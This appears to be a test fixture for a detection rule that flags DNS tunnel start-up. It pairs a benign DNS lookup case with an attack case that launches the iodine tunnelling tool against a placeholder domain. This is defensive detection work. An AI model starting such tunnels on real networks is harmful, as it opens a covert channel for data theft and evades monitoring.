# Rule: Name service tunnel started
benign() {
    named dnsx
    dnsx example.test
}
attack() {
    named iodine
    iodine -f t.example.test
}
